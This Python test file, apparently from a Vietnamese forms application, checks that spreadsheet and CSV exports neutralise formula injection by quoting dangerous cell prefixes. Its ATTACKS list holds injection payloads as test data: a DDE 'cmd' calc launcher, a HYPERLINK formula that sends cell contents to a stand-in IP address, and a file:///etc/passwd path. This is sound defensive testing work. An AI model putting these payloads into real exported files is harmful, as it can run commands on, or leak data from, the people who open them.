"""What people typed is text in every table that leaves the program, and what is a number stays one."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from config.dev.bootstrap import ROOT
from forms_templates.cells import csv_cell, is_like_formula, text_of_cell
from forms_templates.contents import Part, write_zip
from forms_templates.excel import RULED, new_workbook

#: Signs that some program takes for the beginning of a formula, or skips before one.
BEGINNINGS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\0",
    " ",
    "\u00a0",
    "\ufeff",
    "＝",
    "＋",
    "－",
    "＠",
    "'",
    "|",
    "%",
]
ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://203.0.113.9/?"&A1,"bấm")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "\ufeff=1+1",
    "- Hoàn thành tốt nhiệm vụ",
    "http://203.0.113.9/",
    "file:///etc/passwd",
    "0012",
    "1e5",
    "đ" * 40_000,
]
TEXTS = st.builds(str.__add__, st.sampled_from([*BEGINNINGS, ""]), st.text(max_size=40))
NUMBERS = st.integers(-(10**14), 10**14) | st.decimals(-(10**9), 10**9, places=2).map(float)


def workbook(texts: list[str], numbers: list[float]) -> bytes:
    """Every way there is to write a text into a sheet: as text, as whatever it is, over joined cells."""
    with new_workbook("Thử") as (book, target):
        look, sheet = book.add_format(RULED), book.add_worksheet("Bảng")
        for row, text in enumerate(texts):
            sheet.write_string(row, 0, text, look)
            sheet.write(row, 1, text)
            sheet.merge_range(row, 2, row, 3, text, look)
        for row, number in enumerate(numbers):
            sheet.write_number(row, 5, number, look)
    return target.getvalue()


@settings(max_examples=60, deadline=None)
@given(st.lists(TEXTS, min_size=1, max_size=12), st.lists(NUMBERS, max_size=5))
@example(ATTACKS, [-1, 0.5, 2023])
def test_a_text_comes_back_from_a_workbook_as_that_text_and_a_number_as_that_number(
    texts: list[str], numbers: list[float]
) -> None:
    content = workbook(texts, numbers)
    wanted = [text_of_cell(text) for text in texts]
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python(skip_empty_area=False)
    cells = [[str(cell) for cell in row[:3]] for row in rows[: len(texts)]]
    # What is nothing but blanks at the end of the table may be left out by the reader.
    assert [row for row in cells if any(row)] == [[text] * 3 for text in wanted if text]
    assert [row[5] for row in rows[: len(numbers)]] == [float(number) for number in numbers]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet, styles = archive.read("xl/worksheets/sheet1.xml").decode(), archive.read("xl/styles.xml").decode()
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet
    formats = re.findall(r"<xf [^>]*>", styles.split("<cellXfs")[1])
    for row, text in enumerate(wanted, start=1):
        if is_like_formula(text):
            looks = [int(look) for look in re.findall(rf'<c r="[ABC]{row}" s="(\d+)" t="s">', sheet)]
            assert len(looks) == 3
            assert all('quotePrefix="1"' in formats[look] for look in looks), "it stays a text when it is edited"


def test_there_is_no_way_to_write_a_formula() -> None:
    with new_workbook("Thử") as (book, _target):
        sheet = book.add_worksheet("Bảng")
        for write in (sheet.write_formula, sheet.write_array_formula, sheet.write_url):
            with pytest.raises(TypeError):
                write(0, 0, 0, 0, "=1+1") if write == sheet.write_array_formula else write(0, 0, "=1+1")


@settings(max_examples=200, deadline=None)
@given(TEXTS)
@example("=1+1")
@example("\r\n\t=1+1")
def test_no_cell_of_a_list_begins_like_a_formula(text: str) -> None:
    cell = str(csv_cell(text))
    assert not is_like_formula(cell)
    assert cell[:1] not in ("\t", "\r", "\n", "\0")
    assert cell.removeprefix("'") == text_of_cell(text) or cell == text_of_cell(text)
    lines = io.StringIO()
    csv.writer(lines).writerow([cell])
    assert next(csv.reader(io.StringIO(lines.getvalue()))) == [cell] or "\n" in cell


def test_numbers_of_a_list_stay_numbers() -> None:
    assert [csv_cell(value) for value in (-5, 0.5, None, True)] == [-5, 0.5, None, True]


def test_the_list_in_an_archive_holds_no_formula() -> None:
    target = io.BytesIO()
    write_zip([Part(1, "=HYPERLINK(1)", 0, "", "@SUM(1)", bytes)], target)
    with zipfile.ZipFile(target) as archive:
        rows = list(csv.reader(io.StringIO(archive.read("000 - Mục lục.csv").decode("utf-8-sig"))))
    assert (rows[1][1], rows[1][-1]) == ("'=HYPERLINK(1)", "'@SUM(1)")


def test_every_table_of_the_program_is_written_that_way() -> None:
    """Whoever writes one in another way meets this test."""
    makes = re.compile(r"\bcsv\.(?:Dict)?[wW]riter\b|\b(?:from|import) (?:xlsxwriter|openpyxl|odf|xlwt)\b")
    found = {
        str(file.relative_to(ROOT))
        for room in ("config", "organizations", "forms_templates", "reviews", "ratings")
        for file in (ROOT / room).rglob("*.py")
        if makes.search(file.read_text(encoding="utf-8"))
    }
    typed_only = {"forms_templates/columns.py", "forms_templates/tables.py"}  # they name its classes for mypy
    assert found - typed_only == {"forms_templates/excel.py", "forms_templates/contents.py"}
    assert all("new_workbook(" in (ROOT / name).read_text(encoding="utf-8") for name in typed_only)
